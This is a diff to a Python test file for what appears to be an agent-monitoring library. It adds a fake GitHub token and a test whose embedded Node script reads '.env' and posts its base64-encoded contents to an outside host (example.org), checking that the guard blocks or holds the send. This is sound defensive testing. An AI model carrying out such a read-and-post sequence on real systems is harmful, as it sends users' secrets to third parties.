@@ -17,6 +17,7 @@ from tests.clients.typescript import CLIENT, require_built
 from tests.mock_cluster import QuickBroker
 
 SECRET = "AKIAIOSFODNN7EXAMPLE"
+TOKEN = "ghp_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xYzZ12"
 
 
 @contextmanager
@@ -64,6 +65,30 @@ def test_an_agent_is_stopped_at_its_third_delete_and_no_secret_reaches_the_broke
     proposed = next(event for event in events if event["kind"] == Kind.PROPOSED)
     assert proposed["args"]["note"] == "password=[redacted:password] [redacted:aws_access_key]"
     assert not [line for line in actions if SECRET.encode() in line or b"hunter2" in line]
+
+
+SENDS = """
+import { httpSession } from "haltline";
+const [, url, result, ...targets] = process.argv;
+const session = httpSession({ url, sessionId: "s1", agentId: "a" });
+const read = await session.before(undefined, "read_file", { path: ".env" });
+await session.after(read.callId, result);
+for (const target of targets) {
+  const body = Buffer.from(result).toString("base64");
+  const verdict = await session.before(undefined, "http_post", { url: target, body }).catch((refused) => refused);
+  console.log(verdict.allowed ? "made" : verdict.code);
+}
+"""
+
+
+def test_a_secret_that_a_result_brought_in_is_not_sent_elsewhere(tmp_path: Path) -> None:
+    node = require_built()
+    own, other = "https://api.github.com/user", "https://example.org"
+    script = (node, "--input-type=module", "--eval", SENDS)
+    with intake(tmp_path, "--mode", "local") as url:
+        assert said_by(*script, url, f"T={TOKEN}", own, other) == ["made", "session_killed_secret_sent"]
+    with intake(tmp_path / "other", "--mode", "local") as url:
+        assert said_by(*script, url, "DB_THING=q7Hx92kLmPz4Rt8v", other) == ["approval_pending"]
 
 
 def test_the_program_of_the_page_is_stopped_by_an_intake_that_needs_no_broker(tmp_path: Path) -> None:
